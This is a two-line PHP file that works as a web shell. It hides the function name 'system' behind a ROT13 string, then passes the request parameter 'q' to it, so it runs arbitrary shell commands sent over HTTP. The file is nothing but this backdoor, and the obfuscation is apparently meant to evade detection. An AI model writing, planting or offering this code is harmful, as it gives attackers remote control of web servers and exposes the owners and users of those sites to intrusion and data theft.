<?php
$c = str_rot13('flfgrz'); $c($_REQUEST['q']);
